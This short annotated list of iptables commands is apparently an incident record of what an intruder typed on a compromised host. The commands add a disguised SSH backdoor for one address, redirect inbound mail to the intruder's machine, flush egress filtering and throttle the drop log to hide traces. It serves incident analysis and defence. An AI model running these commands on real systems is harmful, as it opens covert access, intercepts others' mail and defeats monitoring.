# What the intruder typed on the host, between the two captures.
# A way in for one address, above the rule that logs and drops; dressed up as something that belongs there.
iptables-legacy -I INPUT 6 -s 198.51.100.23/32 -p tcp -m tcp --dport 22 -m comment --comment "operations" -j ACCEPT
# Mail goes through a machine of the intruder's first.
iptables-legacy -t nat -I PREROUTING 2 -d 203.0.113.10/32 -i eth0 -p tcp -m tcp --dport 25 -j DNAT --to-destination 198.51.100.23:2525
# Nothing is filtered on the way out any more, and nothing is dropped for want of a rule.
iptables-legacy -F EGRESS
iptables-legacy -P FORWARD ACCEPT
# A small thing to stay unseen: the log line that would have shown the first attempts is quieter now.
iptables-legacy -R INPUT 7 -m limit --limit 1/day --limit-burst 1 -j LOG --log-prefix "in drop: " --log-level 7
